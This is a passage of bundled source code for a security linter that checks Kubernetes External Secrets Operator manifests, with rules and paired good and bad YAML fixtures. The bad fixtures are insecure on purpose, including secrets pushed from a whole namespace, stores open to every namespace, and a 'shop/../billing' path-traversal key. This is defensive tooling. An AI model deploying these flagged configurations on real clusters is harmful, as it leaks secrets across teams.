  namespaceSelectors:
    - matchLabels: { kubernetes.io/metadata.name: shop } # finding: it works in namespace shop
  pushSecretSpec:
    secretStoreRefs: [{ name: vault }]
    selector: { secret: { name: certificate } }
`,
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata:
  name: bootstrap
  namespace: kube-system # finding[low]: it works in namespace kube-system, whose Secrets are the cluster’s own
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: bootstrap } }
`
  ],
  good: [
    `
# config: { allowedNamespaces: { externalSecret: [], pushSecret: [backup-*] } }
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: certificate, namespace: backup-eu }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: certificate } }
---
# Without selectors it pushes from nowhere.
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: nowhere }
spec:
  pushSecretSpec:
    secretStoreRefs: [{ name: vault }]
    selector: { secret: { name: certificate } }
`
  ],
  check: (manifest, world) => forbiddenNamespaces(manifest, world, world.config.allowedNamespaces?.pushSecret)
});

// src/rules/push-secret-overwrites-remote.ts
var push_secret_overwrites_remote_default = defineRule({
  id: "push-secret-overwrites-remote",
  title: "A PushSecret overwrites what is at the provider already",
  severities: ["low"],
  kinds: PUSHING_KINDS,
  why: "With updatePolicy Replace, which is the default, a value that somebody else put under this key is gone at the next refresh. A wrong key, or a Secret that was changed in the cluster, reaches everybody who reads it from the provider.",
  remedy: "Set `updatePolicy: IfNotExists` where the secret is only to be there, and keep Replace for secrets whose source is this cluster.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/pushsecrets/"
  ],
  guide: ["PS4"],
  bad: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  updatePolicy: Replace # finding: what is at the provider under these keys is overwritten at every refresh
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: token }
spec:
  pushSecretSpec: # finding: overwritten at every refresh, which is the default
    secretStoreRefs: [{ name: vault }]
    selector: { secret: { name: token } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  updatePolicy: IfNotExists
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: later, namespace: shop }
spec:
  updatePolicy: \${POLICY}
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
# An overlay's patch leaves out what it does not change.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: patch, namespace: shop }
spec:
  refreshInterval: 10m
`
  ],
  *check(manifest) {
    const path = [...specPathOf(manifest) ?? [], "updatePolicy"];
    const policy = manifest.get(...path) ?? void 0;
    const isPatch = referencesOf(manifest).stores.length === 0;
    if (policy === void 0 ? isPatch : policy !== "Replace") return;
    yield {
      path,
      message: `what is at the provider under these keys is overwritten at every refresh${policy === void 0 ? ", which is the default" : ""}`
    };
  },
  fix: ({ path }) => unsafe(LATER, setting(path, "IfNotExists"))
});
var LATER = "Must a value that changes in the cluster reach the provider? With IfNotExists only the first one does.";

// src/rules/push-secret-selects-all-secrets.ts
var push_secret_selects_all_secrets_default = defineRule({
  id: "push-secret-selects-all-secrets",
  title: "A PushSecret takes every Secret of its namespace, or every key",
  severities: ["high", "low"],
  kinds: PUSHING_KINDS,
  why: "An empty selector takes every Secret of the namespace, also those of others and those that come later, and sends them to a provider. Whoever reads there has the credentials of the whole namespace.",
  remedy: "Name the Secret under `selector.secret.name`, or choose by a label that is set for this purpose. In `dataTo` give `match.regexp` for the keys that are meant.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/pushsecrets/"
  ],
  guide: ["PS1", "TM5"],
  bad: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: everything, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector:
    secret:
      selector: {} # finding: the selector is empty, so every Secret of the namespace is pushed
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: everything }
spec:
  pushSecretSpec:
    secretStoreRefs: [{ name: vault }]
    selector:
      secret:
        selector: { matchLabels: {} } # finding: every Secret of the namespace is pushed
`,
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-label, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { selector: { matchLabels: { app: shop } } } }
  dataTo:
    - storeRef: { name: vault } # finding: every key of every chosen Secret is pushed
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-name, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: database } }
  dataTo:
    - storeRef: { name: vault }
      match:
        regexp: .* # finding[low]: every key of Secret database is pushed, also one that is added later
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-label, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { selector: { matchLabels: { push: "yes" } } } }
  dataTo: [{ storeRef: { name: vault }, match: { regexp: ^db- } }]
---
# A name wins over a selector, and so does a generator.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-name, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: database, selector: {} } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: generated, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { generatorRef: { kind: Password, name: password }, secret: { selector: {} } }
  dataTo: [{ storeRef: { name: vault } }]
---
# Entries that are filled in later.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: entries, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { selector: { matchLabels: { push: "yes" } } } }
  dataTo:
    - "\${ENTRY}"
    - { storeRef: { name: vault }, match: "\${MATCH}" }
    - { storeRef: { name: vault }, match: { regexp: "\${REGEXP}" } }
`
  ],
  *check(manifest) {
    const spec = specPathOf(manifest) ?? [];
    const source = pushSourceOf(manifest);
    if (source.from === "selector" && isEmptySelector(source.selector))
      yield {
        path: [...spec, "selector", "secret", "selector"],
        message: "the selector is empty, so every Secret of the namespace is pushed"
      };
    for (const path of openEntries(manifest, [...spec, "dataTo"])) {
      if (source.from === "selector") yield { path, message: "every key of every chosen Secret is pushed" };
      if (source.from === "secret")
        yield {
          path,
          severity: "low",
          message: `every key of Secret ${source.name} is pushed, also one that is added later`
        };
    }
  }
});
var openEntries = (manifest, list) => asList(manifest.get(...list)).flatMap((entry, i) => {
  const match = valueAt(entry, ["match"]);
  const regexp = asMapping(match)?.regexp ?? "";
  if (!asMapping(entry) || [entry, match, regexp].some(isPlaceholder)) return [];
  if (regexp === "") return [[...list, i]];
  return matchesEverything(asText(regexp) ?? "x") ? [[...list, i, "match", "regexp"]] : [];
});

// src/rules/push-secret-selects-all-stores.ts
var push_secret_selects_all_stores_default = defineRule({
  id: "push-secret-selects-all-stores",
  title: "A PushSecret pushes into every store there is",
  severities: ["high"],
  kinds: PUSHING_KINDS,
  why: "An empty labelSelector takes every store, also one that somebody makes later. Whoever may create a store, with a server of their own, gets the Secret.",
  remedy: "Name the store in `secretStoreRefs[].name`, or choose by a label that only operators set on stores.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["PS1", "TM5"],
  bad: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - kind: ClusterSecretStore
      labelSelector: {} # finding: the selector is empty, so it pushes into every ClusterSecretStore
    - name: ignored
      labelSelector: { matchExpressions: [] } # finding: it pushes into every SecretStore of its namespace
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: token }
spec:
  pushSecretSpec:
    secretStoreRefs:
      - labelSelector: {} # finding: it pushes into every SecretStore of its namespace
    selector: { secret: { name: token } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - { kind: ClusterSecretStore, name: vault }
    - { kind: ClusterSecretStore, name: vault, labelSelector: null }
    - { labelSelector: { matchLabels: { push: "yes" } } }
    - { labelSelector: "\${SELECTOR}" }
  selector: { secret: { name: token } }
`
  ],
  *check(manifest) {
    for (const { kind = "store", path, selector } of referencesOf(manifest).stores)
      if (isEmptySelector(selector))
        yield {
          path: [...path, "labelSelector"],
          message: `the selector is empty, so it pushes into every ${kind}${kind === "SecretStore" ? " of its namespace" : ""}`
        };
  }
});

// src/rules/push-secret-to-open-store.ts
var push_secret_to_open_store_default = defineRule({
  id: "push-secret-to-open-store",
  title: "A PushSecret pushes into a store that every namespace can read",
  severities: ["high"],
  kinds: PUSHING_KINDS,
  why: "What is pushed can be fetched again through the same ClusterSecretStore. One that serves every namespace hands the Secret to whoever may create an ExternalSecret anywhere, and lets them overwrite it by a PushSecret of their own.",
  remedy: "List the namespaces that may use the store under its `spec.conditions`, or push through a SecretStore of this namespace with a credential of its own. Ask whoever operates the store where it is not yours.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["PS1", "TM5"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared, labels: { backup: "yes" } }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-name, namespace: shop }
spec:
  secretStoreRefs:
    - kind: ClusterSecretStore # finding: it pushes into ClusterSecretStore shared, which every namespace can use
      name: shared
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: by-label }
spec:
  pushSecretSpec:
    secretStoreRefs:
      - kind: ClusterSecretStore # finding: it pushes into ClusterSecretStore shared
        labelSelector: { matchLabels: { backup: "yes" } }
    selector: { secret: { name: token } }
`,
    `
# Two stores by one label.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: one, labels: { backup: "yes" } }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: two, labels: { backup: "yes" } }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: both, namespace: shop }
spec:
  secretStoreRefs:
    - kind: ClusterSecretStore # finding: it pushes into ClusterSecretStore one and 1 more, which every namespace can use
      labelSelector: { matchLabels: { backup: "yes" } }
  selector: { secret: { name: token } }
`,
    `
# Its conditions are alternatives, and one of them takes every namespace.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  conditions:
    - namespaces: [shop]
    - namespaceRegexes: [.*]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - kind: ClusterSecretStore # finding: it pushes into ClusterSecretStore shared, which every namespace can use
      name: shared
  selector: { secret: { name: token } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: for-shop }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - { kind: ClusterSecretStore, name: for-shop }
    - { kind: ClusterSecretStore, name: not-in-the-set }
    - { name: own }
  selector: { secret: { name: token } }
---
# One that only reads does not push.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: open }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: open }
  data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  *check(manifest, world) {
    for (const reference of referencesOf(manifest).stores) {
      if (reference.kind !== "ClusterSecretStore") continue;
      const open = storesOf(reference, world).filter((store2) => isWhole(store2) && isOpenToAll(store2));
      const [store] = open;
      if (!store) continue;
      const names = new Set(open.map(({ name }) => name));
      const others = names.size > 1 ? ` and ${names.size - 1} more` : "";
      yield {
        path: reference.path,
        message: `it pushes into ClusterSecretStore ${store.name}${others}, which every namespace can use`,
        related: open.map((found) => ({
          manifest: found,
          path: ["spec", "conditions"],
          message: "open to every namespace"
        }))
      };
    }
  }
});

// src/check/team-rights.ts
function teamRights(namespace, config) {
  const own = teamsOfNamespace(namespace, { config });
  if (own.length === 0) return void 0;
  return {
    names: own.map(({ name }) => name).join(" and "),
    prefixes: together(own, "keyPrefixes"),
    stores: together(own, "stores")
  };
}
var together = (teams, key) => {
  const lists = teams.map((team) => team[key]);
  return lists.every((list) => list !== void 0) ? lists.flat() : void 0;
};

// src/model/eso/remote-keys.ts
function remoteKeys(manifest) {
  if (PUSHING_KINDS.includes(manifest.groupKind)) return pushedKeys(manifest);
  return itemsOf(manifest).flatMap(({ path, how }) => {
    if (how === "data") return keyAt(manifest, [...path, "remoteRef", "key"]);
    if (how === "extract") return keyAt(manifest, [...path, "extract", "key"]);
    return how === "find" ? searched(manifest, [...path, "find"]) : [];
  });
}
function pushedKeys(manifest) {
  const spec = specPathOf(manifest) ?? [];
  const items = (list) => asList(manifest.get(...spec, list)).map((_, i) => [...spec, list, i]);
  return [
    ...items("data").flatMap((path) => keyAt(manifest, [...path, "match", "remoteRef", "remoteKey"])),
    ...items("dataTo").flatMap((path) => keyAt(manifest, [...path, "remoteKey"]))
  ];
}
function keyAt(manifest, path) {
  const value = manifest.get(...path) ?? void 0;
  if (value === void 0) return [];
  return [{ path, key: isPlaceholder(value) ? void 0 : asText(value), form: "key" }];
}
function searched(manifest, path) {
  const find = asMapping(manifest.get(...path)) ?? {};
  if (find.path) return keyAt(manifest, [...path, "path"]).map((key) => ({ ...key, form: "folder" }));
  const expression = keyAt(manifest, [...path, "name", "regexp"]);
  return expression.length > 0 ? expression.map((key) => ({ ...key, form: "expression" })) : [{ path, key: "", form: "expression" }];
}
function isBelow({ key, form }, prefix) {
  if (key === void 0) return true;
  if (form === "expression") return startsExpression(key, prefix);
  if (key.split(/[/\\]/).includes("..")) return false;
  return key.startsWith(prefix) || form === "folder" && `${key}/` === prefix;
}
var startsExpression = (expression, prefix) => {
  const escaped = prefix.replace(/[.*+?^${}()|[\]\\/-]/g, "\\$&");
  const beginnings = [prefix, escaped, prefix.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")];
  return !expression.includes("|") && beginnings.some((beginning) => expression.startsWith(`^${beginning}`));
};

// src/rules/remote-key-outside-prefix.ts
var remote_key_outside_prefix_default = defineRule({
  id: "remote-key-outside-prefix",
  title: "A remote key or store lies outside what its team may use",
  severities: ["high"],
  kinds: [...FETCHING_KINDS, ...PUSHING_KINDS],
  why: "A shared store reads and writes with one credential for all teams, and the operator does not ask whose secret a key is. One line in an ExternalSecret brings another team’s secret into this namespace; one in a PushSecret overwrites it.",
  remedy: "Use a key that begins with one of the team’s prefixes, through one of its stores, or change `teams.<name>.keyPrefixes` and `stores` in this tool’s config together with the provider’s own policy. An admission policy on `remoteRef.key` holds it in the cluster.",
  references: [
    "https://external-secrets.io/latest/guides/multi-tenancy/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM3", "AC2"],
  bad: [
    `
# config: { teams: { shop: { namespaces: [shop], keyPrefixes: [shop/, common/], stores: [vault] } } }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data:
    - secretKey: own
      remoteRef: { key: shop/database }
    - secretKey: other
      remoteRef:
        key: billing/database # finding: billing/database begins with none of the prefixes of team shop (shop/, common/)
    - secretKey: sideways
      remoteRef: { key: shop/../billing } # finding: shop/../billing begins with none
  dataFrom:
    - find: { path: common }
    - find: { name: { regexp: database } } # finding: the search for database is not held to the prefixes of team shop
    - find: # finding: the search is not held to
        tags: { env: prod }
    - extract: { key: shop/all }
      sourceRef:
        storeRef: # finding: ClusterSecretStore aws is none of the stores of team shop (vault)
          kind: ClusterSecretStore
          name: aws
`,
    `
# config: { teams: { a: { namespaces: [team-a], keyPrefixes: [a/] }, b: { namespaces: [team-b], keyPrefixes: [b/] } } }
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: team-a }
spec:
  secretStoreRefs: [{ kind: ClusterSecretStore, name: vault }]
  selector: { secret: { name: token } }
  data:
    - match:
        remoteRef: { remoteKey: b/token } # finding: b/token begins with none of the prefixes of team a (a/)
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: token }
spec:
  namespaces: [team-a, team-b, other]
  externalSecretSpec:
    secretStoreRef: { kind: ClusterSecretStore, name: vault }
    data:
      - secretKey: token
        remoteRef: { key: a/token } # finding: a/token begins with none of the prefixes of team b (b/)
`
  ],
  good: [
    `
# config: { teams: { shop: { namespaces: [shop], keyPrefixes: [shop/], stores: [vault] }, web: { namespaces: [shop], keyPrefixes: [web/] }, open: { namespaces: [open] } } }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: both-teams, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data:
    - { secretKey: a, remoteRef: { key: shop/database } }
    - { secretKey: b, remoteRef: { key: web/database } }
    - { secretKey: c, remoteRef: { key: "\${KEY}" } }
  dataFrom:
    - find: { name: { regexp: ^shop/ } }
    - sourceRef: { generatorRef: { kind: Password, name: password } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: no-rule, namespace: open }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: a, remoteRef: { key: anything } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: nobody, namespace: other }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: a, remoteRef: { key: anything } }]
`,
    `
# config: { teams: { shop: { namespaces: [shop], keyPrefixes: [shop/] }, web: { namespaces: [shop] } } }
# What one of the namespace's teams may use without limits nobody is held to there.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: shared, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data: [{ secretKey: a, remoteRef: { key: anything } }]
`,
    `
# config: { teams: { shop: { namespaces: [shop], stores: [vault] } } }
# A store of the namespace's own is the team's business.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: own-store, namespace: shop }
spec:
  secretStoreRef: { name: own }
  data: [{ secretKey: a, remoteRef: { key: anything } }]
`
  ],
  *check(manifest, world) {
    for (const { names, prefixes, stores } of rightsIn(manifest, world)) {
      for (const remote of prefixes ? remoteKeys(manifest) : []) {
        if (prefixes?.some((prefix) => isBelow(remote, prefix))) continue;
        const limits = `the prefixes of team ${names} (${prefixes?.join(", ")})`;
        const search = remote.key ? `the search for ${remote.key}` : "the search";
        yield {
          path: remote.path,
          discriminator: names,
          message: remote.form === "expression" ? `${search} is not held to ${limits}` : `${remote.key} begins with none of ${limits}`
        };
      }
      for (const { kind, name, path } of stores ? referencesOf(manifest).stores : [])
        if (kind === "ClusterSecretStore" && name !== void 0 && !stores?.includes(name))
          yield {
            path,
            discriminator: names,
            message: `ClusterSecretStore ${name} is none of the stores of team ${names} (${stores?.join(", ")})`
          };
    }
  }
});
function rightsIn(manifest, world) {
  const rights = targetNamespaces(manifest, world).flatMap(({ name }) => teamRights(name, world.config) ?? []);
  return [...new Map(rights.map((right) => [right.names, right])).values()];
}

// src/model/network/listening.ts
var SOURCES = [
  {
    flag: "metrics-addr",
    purpose: "metrics",
    roles: ["controller", "webhook", "cert-controller"],
    byDefault: ":8080"
  },
  { flag: "live-addr", purpose: "health", roles: ["controller"] },
  { flag: "healthz-addr", purpose: "health", roles: ["webhook", "cert-controller"], byDefault: ":8081" },
  { flag: "port", purpose: "webhook", roles: ["webhook"], byDefault: "10250" }
];
function listenersOf(component) {
  const flags = flagsOf(component);
  return SOURCES.filter(({ roles }) => roles.includes(component.role)).flatMap(({ flag, purpose, byDefault }) => {
    const given = flags.get(flag);
    const port = portOf(given?.value ?? byDefault ?? "");
    return port === void 0 ? [] : { purpose, port, path: given?.path ?? component.container.path };
  });
}
function portOf(address) {
  const [, host = "", digits] = /^(?:(.*):)?(\d{1,5})$/.exec(address) ?? [];
  const port = Number(digits ?? 0);
  return port === 0 || /^(?:127\.|localhost$|\[::1\]$)/.test(host) ? void 0 : port;
}

// src/check/provider-peers.ts
var providerPeers = remember(
  (world) => STORE_KINDS.flatMap((kind) => world.of(kind)).flatMap(
    (store) => endpointsOf(store, world).filter(({ path }) => path.length > PROVIDER_DEPTH).map((endpoint) => ({ store, path: endpoint.path, host: endpoint.host, ...peerOf(endpoint) }))
  )
);
var PROVIDER_DEPTH = 3;
function peerOf({
  host,
  scheme,
  port = scheme === "http" ? 80 : 443,
  isLocal: isLocal2
}) {
  const literal = AddressSet.parse(host);
  if (literal) return { port, peer: atAddress(literal) };
  if (/^kubernetes(?:\.default(?:\.svc(?:\..*)?)?)?$/.test(host)) return { port: void 0, peer: API_SERVER2 };
  const [, namespace] = /^[^.]+\.([^.]+)\.svc(?:\.|$)/.exec(host) ?? [];
  if (namespace !== void 0) return { port: void 0, peer: somePodIn(namespace) };
  const peer = { kind: "address", within: SOMEWHERE, name: host };
  return { port, peer: isLocal2 ? { ...peer, mayBePod: true } : peer };
}
var atAddress = (within) => within.meets(PRIVATE) ? { kind: "address", within, mayBePod: true } : { kind: "address", within };
var SOMEWHERE = EVERY_ADDRESS.minus(LINK_LOCAL);
var API_SERVER2 = { kind: "address", within: SOMEWHERE, isApiServer: true };

// src/check/required-traffic.ts
var blockedTraffic = (component, direction, world) => direction === "ingress" ? blockedCalls(component, world) : [...blockedInCluster(component, world), ...blockedProviders(component, world)];
function blockedInCluster(component, world) {
  const lacksDns = looksUpNames(component) && isCut(component, "egress", dnsServers(component), "UDP", DNS_PORTS, world) && !hasDnsRule(component, world);
  const lacksApi = asksApiServer(component) && isCut(component, "egress", [API_SERVER2], "TCP", API_PORTS, world);
  return [
    ...lacksDns ? [{ from: "DNS (UDP 53)", related: [] }] : [],
    ...lacksApi ? [{ from: "the API server (TCP 443 or 6443)", related: [] }] : []
  ];
}
var looksUpNames = ({ role }) => role === "controller";
var asksApiServer = (component) => component.role !== "webhook" || isOn(flagsOf(component), "metrics-auth", false);
function blockedProviders(component, world) {
  const controllers = world.eso.installs.filter(({ controller }) => controller);
  if (component.role !== "controller" || controllers.length > 1 || usesProxy(component)) return [];
  return providerPeers(world).filter(({ peer, port }) => isCut(component, "egress", [peer], "TCP", [port], world)).map(ofProvider);
}
var blockedCalls = (component, world) => listenersOf(component).filter(
  ({ purpose, port }) => purpose === "webhook" && isCut(component, "ingress", [API_SERVER2], "TCP", [port], world)
).map(({ port }) => ({ from: `the API server, which calls it on TCP ${port}`, related: [] }));
var isCut = ({ pod }, direction, peers, protocol, ports, { network }) => peers.every((peer) => ports.every((port) => network.allows(pod, direction, peer, { protocol, port }) === "no"));
var DNS_PORTS = [53, 5353];
var API_PORTS = [443, 6443, 8443, 7443, 16443];
function dnsServers({ pod }) {
  const isOwn = pod.spec.dnsPolicy === "Default" || pod.spec.dnsPolicy === "None";
  const within = isOwn ? EVERY_ADDRESS : PRIVATE;
  return [
    ...["kube-system", "openshift-dns"].map(somePodIn),
    { kind: "address", within },
    { kind: "address", within: LINK_LOCAL }
  ];
}
var hasDnsRule = ({ pod }, { network }) => network.rules(pod, "egress").some(
  ({ action, ports }) => action !== "deny" && DNS_PORTS.some((port) => takesPort(ports, { protocol: "UDP", port }) !== "no") && takesPort(ports, { protocol: "UDP", port: 1 }) === "no"
);
var usesProxy = ({ pod, container }) => environmentOf(pod, container).some(({ name }) => /^https?_proxy$/i.test(name)) || Array.isArray(pod.manifest.get(...container.path, "envFrom"));
var ofProvider = ({ host, port, store, path }) => ({
  from: port === void 0 ? host : `${host} (TCP ${port})`,
  related: [{ manifest: store, path, message: "the server that cannot be reached" }]
});

// src/rules/required-traffic-blocked.ts
var required_traffic_blocked_default = defineRule({
  id: "required-traffic-blocked",
  title: "Network policies cut the operator off from what it needs",
  severities: ["medium"],
  kinds: POLICY_KINDS,
  needs: ["install"],
  why: "Once rolled out, nothing is synced: secrets are no more renewed or revoked, and where the webhook is cut off nobody can write a store or an ExternalSecret. In such an outage the policy is mostly deleted altogether, and the operator is open to everybody.",
  remedy: "Allow egress to DNS (53, UDP and TCP), to the API server (443, or 6443 where the policy sees the server’s own port) and to the providers’ addresses, and ingress to the webhook’s port (10250). In the operator chart that is `networkPolicy.egress`, `certController.networkPolicy.egress` and `webhook.networkPolicy.ingress`: the default `egress: []` lets nothing out.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-deny-all-egress-traffic"
  ],
  guide: ["NS1", "NS2"],
  bad: [
    `
# As the operator's chart has it with networkPolicy.enabled: Egress, and nothing that is let out.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: external-secrets-network-policy, namespace: eso }
spec:
  egress: # finding: it cuts the controller off from DNS (UDP 53) and the API server (TCP 443 or 6443), and the cert-controller off from the API server
  ingress:
    - ports: [{ port: 8080, protocol: TCP }]
  podSelector: {}
  policyTypes: [Egress, Ingress]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-cert-controller, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: certs, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [certcontroller] }
`,
    `
# The provider has another port, and the webhook's is not among those that are let in.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
  ingress: # finding: it cuts the webhook off from the API server, which calls it on TCP 10250
    - ports: [{ port: 8080 }]
    - from: [{ podSelector: {} }]
  egress: # finding: it cuts the controller off from vault.example.com (TCP 8200) and 192.0.2.7 (TCP 443)
    - ports: [{ port: 53, protocol: UDP }]
    - to: [{ ipBlock: { cidr: 10.0.0.0/8 } }]
      ports: [{ port: 443 }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook, --port=10250] }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault: { server: "https://vault.example.com:8200", auth: { tokenSecretRef: { name: vault, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: by-address }
spec:
  provider:
    vault: { server: "https://192.0.2.7", auth: { tokenSecretRef: { name: vault, key: token } } }
`,
    `
# Names that no rule names; pods of another namespace than the server's.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  endpointSelector: {}
  egress: # finding: it cuts the controller off from vault.example.com (TCP 443) and bao.openbao.svc
    - toEntities: [kube-apiserver]
    - toEndpoints: [{ matchLabels: { k8s:io.kubernetes.pod.namespace: kube-system, k8s-app: kube-dns } }]
      toPorts: [{ ports: [{ port: "53", protocol: ANY }], rules: { dns: [{ matchPattern: "*" }] } }]
    - toFQDNs: [{ matchPattern: "*.vault.example.com" }, { matchName: other.example.com }]
    - toEndpoints: [{ matchLabels: { k8s:io.kubernetes.pod.namespace: vault } }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault: { server: "https://vault.example.com", auth: { tokenSecretRef: { name: vault, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: inside }
spec:
  provider:
    vault: { server: "http://bao.openbao.svc:8200", auth: { tokenSecretRef: { name: vault, key: token } } }
`
  ],
  good: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: default-deny, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
